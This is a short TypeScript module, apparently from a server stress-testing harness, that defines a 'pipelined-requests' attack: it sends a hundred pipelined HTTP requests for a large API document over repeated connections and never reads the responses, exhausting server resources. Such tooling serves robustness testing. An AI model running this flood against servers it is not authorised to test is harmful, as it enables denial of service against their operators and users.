import type { Attack } from '../attack.ts';
import { flood } from '../frames.ts';

const TIMES = 100;

/** Pipelined requests with large responses, which are never read. */
export const pipelinedRequests: Attack = {
  name: 'pipelined-requests',
  run: (target, signal) => {
    const request = `GET /api/openapi.json HTTP/1.1\r\nHost: ${new URL(target.url).host}\r\n\r\n`;
    const bytes = Buffer.from(request.repeat(TIMES));
    return target.repeat(10, async (address) => {
      const socket = await target.connect(address);
      if (socket) await flood(socket.pause(), bytes, signal);
    });
  },
};
